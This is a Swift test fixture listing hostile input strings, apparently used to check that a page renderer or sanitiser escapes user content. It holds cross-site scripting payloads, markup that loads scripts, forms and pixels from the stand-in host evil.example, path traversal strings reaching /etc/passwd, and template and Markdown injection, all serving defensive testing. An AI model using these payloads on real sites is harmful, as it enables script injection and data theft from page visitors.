/// Strings that try to run a script in a reader's browser, to break the structure of a page, or to
/// load something from another host.
enum AttackStrings {
  static let all = tags + breakouts + schemes + hosts + templates + characters + markdown + mentions

  static let tags = [
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<ScRiPt>1</sCrIpT>",
    "</script><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</textarea><script>1</script>", "</template><script>1</script>", "</style><script>1</script>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>1</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mi xlink:href=\"javascript:1\">x</mi></math>", "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.png>", "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe srcdoc='<script>1</script>'>",
    "<object data=\"data:text/html,x\"></object>", "<embed src=\"https://evil.example/x.swf\">",
    "<form action=\"https://evil.example/\"><input name=q><button>Go</button></form>",
    "<base href=\"https://evil.example/\">", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style=\"width:expression(1)\">x</div>",
    "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>", "<input autofocus onfocus=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>", "<h1>Another heading</h1>",
    "<p class=disclaimer>x</p>",
    "<aside class=\"helpline\"><a href=\"tel:666\">Ring us</a></aside>", "</main></body></html>",
    "<!--", "-->", "<!-- <script>1</script> -->", "<!--><img src=x onerror=1>", "--!><script>",
    "<![CDATA[<script>1</script>]]>", "]]>", "<?xml version=\"1.0\"?>", "<!DOCTYPE html>",
    "<plaintext>", "<xmp><script>1</script>", "<noscript><p title=\"</noscript><script>1\">",
    "<<script>alert(1)//<</script>", "<scr<script>ipt>", "<", ">", "a<b>c</b>d",
  ]

  static let breakouts = [
    "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>", "\" style=\"position:fixed", "` onclick=`alert(1)", "\"", "'",
    "\\\"});alert(1);//", "\\", "\\u003c/script\\u003e", "\",\"@type\":\"Thing", "\"}</script><b>",
    "&quot; onclick=&quot;alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;",
    "&#x3c;script&#x3e;", "&amp;lt;script&amp;gt;", "&lt", "&", "&#0;", "&#x110000;", "&notit;",
    "expression(alert(1))", "x:expression(1)", "@import url(//evil.example/x.css);",
  ]

  static let schemes = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)",
    "javascript://e.org/%0aalert(1)", "\u{1}javascript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>1</script>", "data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload=1>", "blob:https://evil.example/1", "file:///etc/passwd",
    "feed:javascript:alert(1)", "view-source:javascript:1",
  ]

  static let hosts = [
    "//evil.example", "/\\evil.example", "\\\\evil.example", "///evil.example", "/\t/evil.example",
    "https:evil.example", "https:/\\evil.example", "https://evil.example/\" onclick=\"1",
    "https://community.example.org@evil.example/", "../../../etc/passwd", "..\\..\\x", "/", ".",
    "..",
    "%2e%2e%2f", "%00", "%3Cscript%3E", "?a=1&b=2#c",
  ]

  static let templates = [
    "{{title}}", "{{{body}}}", "{{&body}}", "{{#posts}}x{{/posts}}", "{{>layout}}", "{{<layout}}",
    "{{=<% %>=}}", "{{! x }}", "{{$main}}x{{/main}}", "{count}", "{title}", "{page}", "{name", "}",
    "{{", "}}", "${alert(1)}", "<%= 1 %>", "{% raw %}", "#{1}", "[[x]]",
  ]

  static let characters = [
    "a\u{0}b", "<scr\u{0}ipt>1</script>", "a\u{1}b", "a\u{8}b\u{B}c\u{C}d\u{1B}[31m", "a\u{7F}b",
    "a\u{85}b", "a\u{A0}b", "a\u{2028}b\u{2029}c", "\u{202E}nerW", "\u{2066}a\u{2069}", "\u{200B}",
    "a\u{FEFF}b", "\u{FFFE}", "\u{FFFF}", "\u{10FFFF}", "e\u{301}\u{301}\u{301}",
    "\u{FF1C}script\u{FF1E}",
    "\u{E0001}", "👩🏽‍⚕️", "a\u{D}b", "İstanbul", "ﬀ",
    String(repeating: "W", count: 5000), String(repeating: "<b>", count: 1000),
    String(repeating: "\u{301}", count: 500), String(repeating: "\"'", count: 500),
  ]

  static let markdown = [
    "[a](javascript:alert(1))", "[a](JAVASCRIPT&colon;alert(1))", "[a](<java\tscript:1>)",
    "[a](data:text/html,x)", "[a](//evil.example)", "[a](/\\evil.example)", "[a](/%5Cevil.example)",
    "[a](https://evil.example/\"onclick=\"1)", "[a](https://e.org 'x\" onclick=\"1')",
    "[a](https://e.org \"x' onclick='1\")", "[a](https://e.org (\"><script>1</script>))",
    "![a](https://evil.example/p.png)", "![\"onerror=\"1](https://evil.example/p.png)",
    "![a](data:image/png;base64,AA)", "![a](javascript:1)",
    "![a](https://e.org/x '\" onerror=\"1')",
    "[![a](https://evil.example/p.png)](https://e.org)", "[a]\n\n[a]: javascript:alert(1)",
    "[a]\n\n[a]: https://e.org '\"><script>1</script>'", "<javascript:alert(1)>",
    "<https://evil.example/\"onclick=\"1>", "<a@e.org\"onclick=\"1>", "<mailto:a@e.org?x=\">",
    "```\"><script>1</script>\nx\n```", "```js\" onclick=\"1\nx\n```", "```a&#12;helpline\nx\n```",
    "```a&#9;disclaimer\nx\n```", "```a\u{C}helpline\nx\n```",
    "~~~ </code>\n</pre>\n~~~",
    "`</code><script>1</script>`", "    </pre><script>1</script>", "# <script>1</script>",
    "> <script>1</script>", "- <script>1</script>", "1. <script>1</script>",
    "<div>\n\n<script>1</script>",
    "www.evil.example/\"onclick=\"1", "http://evil.example/<script>1</script>",
    "a\\<script>1</script>",
    "[a](mailto:x@e.org\"onclick=\"1)", "[a](tel:1\"onclick=\"1)", "***",
    "&#x1F4A9;[a](&#x2F;&#x2F;e.org)",
  ]

  static let mentions = [
    "@\"<img src=x onerror=1>\"", "@<script>1</script>", "@Wren\" onclick=\"1",
    "@\"Wren\" onclick=\"1",
    "@\"Wren\"<script>1</script>", "@'><script>", "@@@", "@\"", "@Wren](javascript:1)",
    "[@Wren](javascript:1)", "@\"javascript:alert(1)\"", "@..", "@%2e%2e",
  ]
}
